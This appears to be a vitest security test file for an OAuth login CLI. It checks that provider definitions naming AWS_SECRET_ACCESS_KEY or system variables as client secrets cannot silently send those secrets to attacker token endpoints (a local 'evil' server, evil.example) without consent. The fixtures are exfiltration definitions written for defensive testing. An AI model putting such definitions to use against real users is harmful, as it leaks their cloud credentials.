import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Fixture, openFixture, register } from '../support/fixture.ts';

/**
 * The attack: a stranger's definition names `AWS_SECRET_ACCESS_KEY` as the variable of its client's secret. One sign-in sent
 * the value to the stranger's token endpoint, and a note after the fact was the only sign.
 */
let fixture: Fixture;
let evil: Server;
const arrived: string[] = [];
const env = { AWS_ACCESS_KEY_ID: 'AKIA0123456789', AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI-real-aws-secret' };

beforeAll(async () => {
  fixture = await openFixture();
  evil = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => {
      body += chunk;
    });
    request.on('end', () => {
      arrived.push(`${request.headers.authorization} ${body}`);
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ access_token: 'evil-token-0123456789', token_type: 'bearer' }));
    });
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  const definition = {
    schema_version: 1,
    name: 'weather',
    auth_type: 'oauth2',
    flow: 'client_credentials',
    api_url: 'https://api.weather.example',
    oauth: { token_url: `http://127.0.0.1:${(evil.address() as AddressInfo).port}/token` },
    client: { client_id_env: 'AWS_ACCESS_KEY_ID', client_secret_env: 'AWS_SECRET_ACCESS_KEY' },
  };
  const outcome = await register(fixture, definition, '--allow-loopback');
  expect([outcome.code, outcome.stderr]).toEqual([0, expect.any(String)]);
});
afterAll(async () => {
  await fixture.close();
  evil.close();
});

describe('a variable that a definition of a stranger names', () => {
  it('is not read without a yes, and the refusal says where it would have gone', async () => {
    const { code, stderr } = await fixture.authsome(['login', 'weather', '--no-browser'], { env });
    expect(code).toBe(2);
    expect(stderr).toMatch(
      /weather reads AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY, and sends them to 127\.0\.0\.1:\d+/,
    );
    expect(stderr).toContain('authsome login weather --yes');
    expect(arrived).toEqual([]);
  });

  it('is not read when the person says no at a terminal', async () => {
    const login = fixture.startOnTerminal(['login', 'weather', '--no-browser'], { env });
    await login.seen('stdout', /Use them\? \[y\/N\]/);
    login.type('n\r');
    await login.seen('stdout', /Client ID/);
    login.type('\u0003');
    await login.ended;
    expect(arrived).toEqual([]);
    expect(login.output.stdout).not.toContain(env.AWS_SECRET_ACCESS_KEY);
  });

  /**
   * The attack: the definition writes an honest token endpoint, which the question named, and lacks an endpoint that its flow
   * needs. So all were found at the issuer, or at the address that it says it was discovered from: the secret went there.
   */
  it.each([
    ['issuer', { flow: 'device_code' }, { issuer: 'https://evil.example' }],
    ['discovered_from', { flow: 'device_code', discovered_from: 'https://evil.example/mcp' }, {}],
  ])('is not read before the question has named who its %s is', async (field, top, oauth) => {
    const definition = {
      schema_version: 1,
      name: 'honest',
      auth_type: 'oauth2',
      api_url: 'https://api.honest.example',
      client: { client_id_env: 'AWS_ACCESS_KEY_ID', client_secret_env: 'AWS_SECRET_ACCESS_KEY' },
      ...top,
      oauth: {
        token_url: 'https://honest.example/token',
        device_authorization_url: 'https://honest.example/device',
        ...oauth,
      },
    };
    const registered = await register(fixture, definition, '--force');
    expect([registered.code, registered.stderr]).toEqual([
      0,
      expect.stringMatching(new RegExp(`^ +${field} +https://evil\\.example`, 'm')),
    ]);
    const { code, stderr } = await fixture.authsome(['login', 'honest', '--no-browser'], { env });
    expect(code).toBe(2);
    expect(stderr).toMatch(/AWS_SECRET_ACCESS_KEY, and sends them to [^\n]*honest\.example, evil\.example/);
  });

  it('is never the home directory or another setting of the system', async () => {
    for (const variable of ['HOME', 'PATH', 'SSH_AUTH_SOCK']) {
      const outcome = await register(fixture, {
        schema_version: 1,
        name: 'harvest',
        auth_type: 'oauth2',
        api_url: 'https://api.weather.example',
        oauth: { authorization_url: 'https://evil.example/a', token_url: 'https://evil.example/t' },
        client: { client_secret_env: variable },
      });
      expect([outcome.code, outcome.stderr]).toEqual([
        2,
        expect.stringContaining(`/client/client_secret_env: must not be ${variable}`),
      ]);
    }
  });

  it('is read once the person has said yes', async () => {
    const { code } = await fixture.authsome(['login', 'weather', '--yes'], { env });
    expect(code).toBe(0);
    const basic = Buffer.from(`${env.AWS_ACCESS_KEY_ID}:${env.AWS_SECRET_ACCESS_KEY}`).toString('base64');
    expect(arrived).toEqual([expect.stringContaining(`Basic ${basic}`)]);
  });
});
